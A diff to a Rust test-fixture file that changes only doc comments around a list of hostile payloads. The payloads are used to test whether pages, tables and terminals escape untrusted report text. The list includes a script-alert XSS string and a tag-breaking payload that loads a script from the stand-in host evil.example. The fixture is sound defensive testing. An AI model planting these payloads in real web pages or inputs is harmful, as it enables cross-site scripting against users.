@@ -4,10 +4,10 @@ use getrandom::{SysRng, rand_core::UnwrapErr};
 use serde_json::{Value, json};
 use shared::report::{Report, ReportId, UntrustedReport};
 
-/// A word that no page shows by itself: where it is, the payload has come through.
+/// A word that no page has of its own: where it appears, the payload has come through.
 pub const MARK: &str = "hostile";
 
-/// What harms a page, a table, a terminal or a reader.
+/// Texts that would harm a page, a table, a terminal or a reader.
 const PAYLOADS: &[&str] = &[
     "<script>alert(1)</script>",
     "</textarea></code></p><script src=//evil.example></script>",
@@ -57,7 +57,7 @@ const ADDRESSES: &[&str] = &[
     "https://-.example/hostile",
 ];
 
-/// All of them.
+/// Every payload and every address, in every place that takes it.
 pub fn all() -> Vec<Report> {
     let texts = PAYLOADS.iter().map(|payload| format!("{payload} {MARK}"));
     let many_lines = PAYLOADS.join("\r\n") + "\r\n" + MARK;
